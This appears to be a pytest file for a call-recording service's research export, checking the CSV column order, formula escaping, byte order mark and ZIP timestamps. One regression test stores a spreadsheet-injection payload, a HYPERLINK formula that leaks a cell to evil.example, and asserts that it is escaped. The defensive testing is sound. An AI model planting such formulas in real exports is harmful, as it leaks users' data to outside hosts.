"""calls.csv always names each call by its pseudonym, whatever metadata the batch chose: with only "queue" and
"language" ticked, its rows could be matched with no call's folder (and told apart from no other row)."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from datetime import timedelta

from sqlalchemy import update
from sqlalchemy.orm import Session

from jobs import research as research_jobs
from recordings_service.models import ResearchBatch
from recordings_service.runtime import Runtime
from recordings_service.spreadsheets import BYTE_ORDER_MARK
from tests.factories.research import research_call

UTC_OFFSET = timedelta(0)


def test_the_call_pseudonym_is_the_first_column_whatever_fields_were_chosen(
    session: Session,
    runtime: Runtime,
    approved_batch: Callable[..., ResearchBatch],
    built_package: Callable[[ResearchBatch], zipfile.ZipFile],
) -> None:
    for _ in range(2):
        research_call(session, runtime.store, runtime.envelope)
    batch = approved_batch()
    chosen = ["queue", "language"]  # as the selection form sends them: the call is not a field to tick
    session.execute(update(ResearchBatch).where(ResearchBatch.id == batch.id).values(metadata_fields=chosen))
    session.commit()

    research_jobs.build_batches(runtime)

    session.refresh(batch)
    package = built_package(batch)
    rows = list(csv.DictReader(io.StringIO(package.read("calls.csv").decode("utf-8-sig"))))
    assert list(rows[0]) == ["call", "queue", "language"]
    folders = {name.split("/")[1] for name in package.namelist() if name.startswith("calls/")}
    assert sorted(row["call"] for row in rows) == sorted(folders) and len(folders) == 2


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    session: Session,
    runtime: Runtime,
    approved_batch: Callable[..., ResearchBatch],
    built_package: Callable[[ResearchBatch], zipfile.ZipFile],
) -> None:
    """Found by a security pass: a queue name is whatever the telephony system sent, and calls.csv wrote it as it
    came, so that the institute's spreadsheet ran `=HYPERLINK(…)` (every other CSV the service writes was safe)."""
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"open")'
    research_call(session, runtime.store, runtime.envelope, queue=formula)
    batch = approved_batch()

    research_jobs.build_batches(runtime)

    session.refresh(batch)
    rows = list(csv.DictReader(io.StringIO(built_package(batch).read("calls.csv").decode("utf-8-sig"))))
    assert [row["queue"] for row in rows] == ["'" + formula]


def test_calls_csv_keeps_its_letters_in_excel_and_the_files_are_dated_in_the_organisations_time(
    session: Session,
    runtime: Runtime,
    approved_batch: Callable[..., ResearchBatch],
    built_package: Callable[[ResearchBatch], zipfile.ZipFile],
) -> None:
    """Found by exploratory testing of downloads: calls.csv had no byte order mark, so that Excel showed a queue
    "Käyttöönotto" as "KÃ¤yttÃ¶Ã¶notto", and the ZIP's files were dated in UTC, two or three hours early for
    whoever unpacked it in Finland (every other CSV and ZIP the service hands out was right)."""
    research_call(session, runtime.store, runtime.envelope, queue="Käyttöönotto")
    batch = approved_batch()

    research_jobs.build_batches(runtime)

    session.refresh(batch)
    package = built_package(batch)
    body = package.read("calls.csv")
    assert body.startswith(BYTE_ORDER_MARK.encode()) and "Käyttöönotto".encode() in body
    assert batch.approved_at is not None
    local = batch.approved_at.astimezone(runtime.settings.zone)
    stamp = (local.year, local.month, local.day, local.hour, local.minute)
    assert {info.date_time[:5] for info in package.infolist()} == {stamp}
    assert local.utcoffset() != UTC_OFFSET  # Helsinki is never at UTC: the check would pass on UTC dates too
